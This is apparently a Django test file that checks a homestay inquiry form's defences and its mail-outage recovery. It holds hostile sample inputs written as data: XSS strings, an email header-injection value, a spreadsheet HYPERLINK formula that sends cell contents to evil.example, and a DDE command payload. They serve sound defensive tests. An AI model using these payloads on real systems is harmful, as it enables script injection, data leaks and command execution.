"""The homestay inquiry form from the security side: script payloads in every field come back
escaped (the form page, the admin list and inspect view, the exports), header injection is refused,
and with the mail server down an inquiry is kept and its notice delivered later, end to end over a
real SMTP connection. The form's own behaviour is tested in tests/test_homestays.py."""

import csv
import datetime as dt
import io
import socket
import socketserver
import threading

from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import TestCase, override_settings
from django.urls import reverse
from django.utils import timezone

from homestays.factories import HomestayIndexPageFactory, HomestayPageFactory
from homestays.models import Inquiry
from homestays.owners import grant_listing, make_owner
from portal.factories import make_site

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def inquiry_data(**overrides) -> dict:
    today = timezone.localdate()
    data = {
        "name": "王女士",
        "phone": "139 1234 5678",
        "arrival": (today + dt.timedelta(days=10)).isoformat(),
        "departure": (today + dt.timedelta(days=12)).isoformat(),
        "guests": "2",
        "message": "有停车位吗？",
        "consent": "on",
        "website": "",
    }
    data.update(overrides)
    return data


class InquiryFixture:
    @classmethod
    def build(cls):
        cls.home = make_site()
        cls.index = HomestayIndexPageFactory(parent=cls.home)
        cls.owner = User.objects.create_user("owner1", email="owner1@example.com", password="pw")
        make_owner(cls.owner)
        cls.listing = HomestayPageFactory(parent=cls.index, title="卡阳花海小院", slug="kayang", owner=cls.owner)
        grant_listing(cls.owner, cls.listing)
        cls.editor = User.objects.create_superuser("chief", "chief@example.com", "pw")
        cls.url = cls.listing.inquire_url()


@override_settings(HOMESTAYS_INQUIRY_RATE="1000/m")
class InquiryEscapingTests(InquiryFixture, TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.build()

    def assert_escaped(self, html: str, where: str):
        self.assertNotIn("<script>alert", html, where)
        self.assertNotIn("<img src=x", html, where)

    def test_payloads_in_a_rejected_form_come_back_escaped(self):
        response = self.client.post(self.url, inquiry_data(name=XSS, message=XSS, phone="12<b>3", guests="<i>2", arrival="<svg/onload=1>"))
        self.assertEqual(response.status_code, 400)
        html = response.content.decode()
        self.assert_escaped(html, "form page")
        self.assertNotIn("<b>3", html)
        self.assertNotIn("<svg/onload", html)
        self.assertIn("&lt;script&gt;", html)

    def test_saved_payloads_are_escaped_in_the_admin_for_owner_and_editor(self):
        response = self.client.post(self.url, inquiry_data(name=XSS[:60], message=XSS * 3))
        self.assertEqual(response.status_code, 302)
        inquiry = Inquiry.objects.get()
        self.assertEqual(inquiry.message, XSS * 3)  # stored as typed, escaped on output
        for user in (self.owner, self.editor):
            self.client.force_login(user)
            for url in (reverse("homestay_inquiries:index"), reverse("homestay_inquiries:inspect", args=(inquiry.pk,))):
                with self.subTest(user=user.username, url=url):
                    page = self.client.get(url)
                    self.assertEqual(page.status_code, 200)
                    self.assert_escaped(page.content.decode(), url)
        # The thank-you page does not echo anything.
        self.assertNotIn("alert", self.client.get(self.listing.url + "inquire/sent/").content.decode())

    def test_header_injection_through_the_name_is_refused(self):
        response = self.client.post(self.url, inquiry_data(name="王\r\nBcc: everyone@example.com"))
        self.assertEqual(response.status_code, 400)
        self.assertFalse(Inquiry.objects.exists())

    def test_exports_do_not_run_formulas(self):
        """A spreadsheet opens a cell starting with = + - @ as a formula: an editor exporting
        inquiries must get the visitor's text, not a live HYPERLINK or DDE call."""
        self.client.post(self.url, inquiry_data(name=FORMULA[:60], message="@SUM(1+1)*cmd|' /C calc'!A0"))
        self.assertEqual(Inquiry.objects.count(), 1)
        self.client.force_login(self.editor)
        xlsx = self.client.get(reverse("homestay_inquiries:index"), {"export": "xlsx"})
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content) if xlsx.streaming else xlsx.content)).active
        types = {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
        self.assertNotIn("f", types)
        export = self.client.get(reverse("homestay_inquiries:index"), {"export": "csv"})
        rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
        for cell in rows[1]:
            self.assertFalse(cell.startswith(("=", "+", "-", "@")), f"CSV cell {cell!r} would run as a formula")


class SmtpSink(socketserver.ThreadingTCPServer):
    """A minimal SMTP server that accepts every message, so a test can take the mail server down
    (nothing listening) and bring it back (this) without mocks."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, port):
        self.messages = []
        super().__init__(("127.0.0.1", port), SmtpHandler)


class SmtpHandler(socketserver.StreamRequestHandler):
    def reply(self, line):
        self.wfile.write(line.encode() + b"\r\n")

    def handle(self):
        self.reply("220 sink ESMTP")
        recipients, data = [], None
        while line := self.rfile.readline():
            command = line.decode("utf-8", "replace").strip()
            verb = command.split(" ", 1)[0].upper()
            if verb in ("EHLO", "HELO"):
                self.reply("250 sink")
            elif verb == "MAIL":
                recipients = []
                self.reply("250 OK")
            elif verb == "RCPT":
                recipients.append(command.split(":", 1)[1].strip(" <>"))
                self.reply("250 OK")
            elif verb == "DATA":
                self.reply("354 go ahead")
                lines = []
                while (body := self.rfile.readline()) not in (b".\r\n", b""):
                    lines.append(body)
                data = b"".join(lines)
                self.server.messages.append((recipients, data))
                self.reply("250 queued")
            elif verb == "QUIT":
                self.reply("221 bye")
                return
            else:
                self.reply("250 OK")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@override_settings(HOMESTAYS_INQUIRY_RATE="1000/m")
class MailDownTests(InquiryFixture, TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.build()

    def test_inquiry_kept_while_mail_is_down_and_notice_sent_when_it_returns(self):
        port = free_port()
        smtp = override_settings(EMAIL_BACKEND="django.core.mail.backends.smtp.EmailBackend", EMAIL_HOST="127.0.0.1", EMAIL_PORT=port, EMAIL_TIMEOUT=2)
        with smtp:
            response = self.client.post(self.url, inquiry_data(name="马先生"))
            self.assertEqual(response.status_code, 302)  # the visitor is thanked all the same
            inquiry = Inquiry.objects.get()
            self.assertFalse(inquiry.notified)
            self.assertIn("Connection", inquiry.last_notify_error)

            call_command("send_pending_inquiry_notices", stdout=io.StringIO(), stderr=io.StringIO())  # still down
            inquiry.refresh_from_db()
            self.assertFalse(inquiry.notified)

            server = SmtpSink(port)
            thread = threading.Thread(target=server.serve_forever, daemon=True)
            thread.start()
            try:
                call_command("send_pending_inquiry_notices", stdout=io.StringIO())
                call_command("send_pending_inquiry_notices", stdout=io.StringIO())  # nothing twice
            finally:
                server.shutdown()
                server.server_close()
        inquiry.refresh_from_db()
        self.assertTrue(inquiry.notified)
        self.assertEqual(len(server.messages), 1)
        recipients, data = server.messages[0]
        self.assertEqual(recipients, ["owner1@example.com"])
        self.assertIn("马先生", data.decode("utf-8", "replace") if b"=?utf-8" not in data.lower() else self._decode(data))

    @staticmethod
    def _decode(data: bytes) -> str:
        from email import message_from_bytes, policy

        message = message_from_bytes(data, policy=policy.default)
        return message.get_body(("plain",)).get_content()
